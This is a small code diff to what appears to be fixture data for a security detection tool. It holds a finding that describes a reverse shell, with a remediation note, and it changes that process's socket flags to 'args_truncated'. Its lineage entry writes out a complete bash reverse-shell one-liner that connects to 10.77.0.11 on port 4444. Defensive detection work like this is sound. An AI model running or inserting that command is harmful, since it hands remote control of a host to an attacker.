@@ -123,7 +123,7 @@ export const findings = [
       "A shell's input and output are one network connection: whoever is at the other end types commands on this host. Legitimate programs hardly ever do this.",
     remediation:
       "Cut the connection to 10.77.0.11, keep the process for inspection, and look at its parent to learn how the attacker came in.",
-    process: process(2301, "/usr/bin/bash", "bash -i", { flags: ["stdin_socket", "stdout_socket", "stderr_socket"] }),
+    process: process(2301, "/usr/bin/bash", "bash -i", { flags: ["args_truncated"] }),
     lineage: [
       process(2296, "/usr/bin/bash", "bash -c 'bash -i >& /dev/tcp/10.77.0.11/4444 0>&1'"),
       SHELL,
